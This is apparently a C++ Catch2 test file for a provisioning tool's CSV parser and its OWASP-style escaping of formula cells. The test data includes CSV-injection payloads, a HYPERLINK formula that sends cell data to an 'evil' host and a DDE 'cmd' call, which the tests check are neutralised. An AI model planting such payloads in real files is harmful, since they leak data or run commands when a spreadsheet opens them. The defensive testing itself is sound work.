#include <catch2/catch.hpp>

#include "provisioner/core/csv.h"

using namespace prov;

namespace {

std::vector<std::vector<std::string>> fields(const csv::Table& t) {
    std::vector<std::vector<std::string>> out;
    for (const auto& r : t.records) out.push_back(r.fields);
    return out;
}

}  // namespace

TEST_CASE("csv: plain, CRLF, BOM and a missing final line end read the same") {
    const std::vector<std::vector<std::string>> want = {{"mac", "extension"}, {"a", "1"}, {"b", "2"}};
    for (const std::string& text : {std::string("mac,extension\na,1\nb,2\n"), std::string("mac,extension\r\na,1\r\nb,2\r\n"),
                                   std::string("\xEF\xBB\xBFmac,extension\r\na,1\r\nb,2"),
                                   std::string("mac,extension\n\na,1\n\r\nb,2\n")}) {
        auto t = csv::parse(text);
        REQUIRE(t);
        CHECK(fields(t.value()) == want);
        CHECK(t.value().delimiter == ',');
    }
}

TEST_CASE("csv: quoted fields hold delimiters, doubled quotes and line breaks, lines are counted") {
    auto t = csv::parse("a,b\n\"x, \"\"y\"\"\",\"two\nlines\"\nlast,\"\"\n");
    REQUIRE(t);
    REQUIRE(t.value().records.size() == 3);
    CHECK(t.value().records[1].fields == std::vector<std::string>{"x, \"y\"", "two\nlines"});
    CHECK(t.value().records[1].line == 2);
    CHECK(t.value().records[2].line == 4);  // the record after a two-line field
    CHECK(t.value().records[2].fields == std::vector<std::string>{"last", ""});
}

TEST_CASE("csv: Excel's semicolon files, with commas inside fields") {
    auto t = csv::parse("mac;callerid_name;extension\r\n001565000001;Smith, Anna;201\r\n");
    REQUIRE(t);
    CHECK(t.value().delimiter == ';');
    CHECK(t.value().records[1].fields == std::vector<std::string>{"001565000001", "Smith, Anna", "201"});
}

TEST_CASE("csv: empty trailing fields are kept, so the column count is honest") {
    auto t = csv::parse("a,b,c\n1,,\n");
    REQUIRE(t);
    CHECK(t.value().records[1].fields.size() == 3);
}

TEST_CASE("csv: binary, non-UTF-8 and broken quoting are refused with the line") {
    auto nul = csv::parse(std::string("a,b\n1,2\nx\0y,3\n", 14));
    REQUIRE_FALSE(nul);
    CHECK(nul.error().message.find("line 3") != std::string::npos);
    auto latin1 = csv::parse("a,b\nM\xfcller,1\n");
    REQUIRE_FALSE(latin1);
    CHECK(latin1.error().message.find("line 2") != std::string::npos);
    CHECK(latin1.error().message.find("UTF-8") != std::string::npos);
    auto open = csv::parse("a,b\n1,\"never closed\n2,3\n");
    REQUIRE_FALSE(open);
    CHECK(open.error().message.find("line 2") != std::string::npos);
    auto stray = csv::parse("a,b\n1,ab\"c\n");
    REQUIRE_FALSE(stray);
    CHECK(stray.error().message.find("line 2, field 2") != std::string::npos);
    auto after = csv::parse("a,b\n\"x\"y,1\n");
    REQUIRE_FALSE(after);
    CHECK(after.error().message.find("line 2, field 1") != std::string::npos);
}

TEST_CASE("csv: what appendRecord writes, parse reads back") {
    const std::vector<std::string> row = {"plain", "with,comma", "with \"quote\"", "two\nlines", " padded ", ""};
    std::string out;
    csv::appendRecord(out, row);
    CHECK(out == "plain,\"with,comma\",\"with \"\"quote\"\"\",\"two\nlines\",\" padded \",\r\n");
    auto t = csv::parse(out);
    REQUIRE(t);
    CHECK(t.value().records[0].fields == row);
}

TEST_CASE("csv: a cell a spreadsheet would read as a formula is written with a leading quote (OWASP)") {
    using csv::CellKind;
    // Every character OWASP lists, at the start of a cell.
    for (const std::string v : {"=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "=HYPERLINK(\"http://evil/?\"&U2)",
                                "+cmd|' /C calc'!A0", "=", "+", "-", "@"}) {
        CAPTURE(v);
        CHECK(csv::escapeFormula(v) == "'" + v);
        CHECK(csv::escapeFormula(v, CellKind::kPhoneNumber) == "'" + v);
    }
    // Harmless starts, a formula character further in, the empty cell, and
    // blanks before '=' (which spreadsheets do not evaluate): as they are.
    for (const std::string v : {"", "abc", "1+1", "a=b", "'s-Hertogenbosch", "'", "''", " =1+1", "1001", "*97",
                                "Smith, John", "x@example.com"}) {
        CAPTURE(v);
        CHECK(csv::escapeFormula(v) == v);
    }
    // A value that starts with quotes and then a formula character gets one more.
    CHECK(csv::escapeFormula("'=1+1") == "''=1+1");
    CHECK(csv::escapeFormula("''-2") == "'''-2");
}

TEST_CASE("csv: phone numbers keep a leading + followed by digits only") {
    using csv::CellKind;
    CHECK(csv::escapeFormula("+4930123456", CellKind::kPhoneNumber) == "+4930123456");
    CHECK(csv::escapeFormula("+1", CellKind::kPhoneNumber) == "+1");
    // The same text in a text column, and anything but digits after the '+'
    // in a number column ("+1*2" is a formula in Excel): escaped.
    CHECK(csv::escapeFormula("+4930123456") == "'+4930123456");
    for (const std::string v : {"+1*2", "+49#1", "+", "+49 30", "+1+1", "-4930", "+=1"}) {
        CAPTURE(v);
        CHECK(csv::escapeFormula(v, CellKind::kPhoneNumber) == "'" + v);
    }
    CHECK(csv::escapeFormula("*97#", CellKind::kPhoneNumber) == "*97#");
}

TEST_CASE("csv: reading a cell drops only the quote that writing added") {
    CHECK(csv::unescapeFormula("'=1+1") == "=1+1");
    CHECK(csv::unescapeFormula("'+4930") == "+4930");
    CHECK(csv::unescapeFormula("'-x") == "-x");
    CHECK(csv::unescapeFormula("'@x") == "@x");
    CHECK(csv::unescapeFormula("'\t=1") == "\t=1");
    CHECK(csv::unescapeFormula("'\r=1") == "\r=1");
    CHECK(csv::unescapeFormula("''=1+1") == "'=1+1");
    // A quote before anything else is data: a Dutch town, a lone quote, a
    // quote then a space, an unescaped formula (the API stores what it is given).
    for (const std::string v : {"'s-Hertogenbosch", "'", "''", "' =1", "'a", "=1+1", "+4930", "", "a'=b"}) {
        CAPTURE(v);
        CHECK(csv::unescapeFormula(v) == v);
    }
}

TEST_CASE("csv: escape then unescape gives every value back, both kinds") {
    // Every string of up to four characters over an alphabet of the
    // characters that matter: 12^0 + ... + 12^4 = 22,621 values.
    const std::string alphabet = {'\'', '=', '+', '-', '@', '\t', '\r', '1', '9', 'a', ' ', '*'};
    std::vector<std::string> values = {""};
    for (size_t at = 0; at < values.size(); ++at) {
        if (values[at].size() == 4) continue;
        for (char c : alphabet) values.push_back(values[at] + c);
    }
    REQUIRE(values.size() == 22621);
    size_t escaped = 0;
    for (const std::string& v : values) {
        for (auto kind : {csv::CellKind::kText, csv::CellKind::kPhoneNumber}) {
            const std::string cell = csv::escapeFormula(v, kind);
            if (cell != v) ++escaped;
            // What is written never starts a formula, unless it is a phone number.
            const bool phone = kind == csv::CellKind::kPhoneNumber && v.size() >= 2 && v[0] == '+' &&
                               v.find_first_not_of("0123456789", 1) == std::string::npos;
            if (!phone && !cell.empty()) {
                INFO("value [" << v << "] written as [" << cell << "]");
                CHECK(std::string("=+-@\t\r").find(cell[0]) == std::string::npos);
            }
            if (csv::unescapeFormula(cell) != v) FAIL("value [" << v << "] written as [" << cell << "] reads back wrong");
        }
    }
    CHECK(escaped > 10000);  // the table really exercised the rule
}

TEST_CASE("csv: an escaped cell with a delimiter, quote, tab or line break is quoted") {
    std::string out;
    csv::appendRecord(out, {csv::escapeFormula("=HYPERLINK(\"http://evil/?\"&U2)"), csv::escapeFormula("\t=1"),
                            csv::escapeFormula("=a,b"), csv::escapeFormula("'s-Hertogenbosch")});
    CHECK(out == "\"'=HYPERLINK(\"\"http://evil/?\"\"&U2)\",\"'\t=1\",\"'=a,b\",'s-Hertogenbosch\r\n");
    auto t = csv::parse("h1,h2,h3,h4\r\n" + out);
    REQUIRE(t);
    std::vector<std::string> back;
    for (const auto& f : t.value().records[1].fields) back.push_back(csv::unescapeFormula(f));
    CHECK(back == std::vector<std::string>{"=HYPERLINK(\"http://evil/?\"&U2)", "\t=1", "=a,b", "'s-Hertogenbosch"});
}
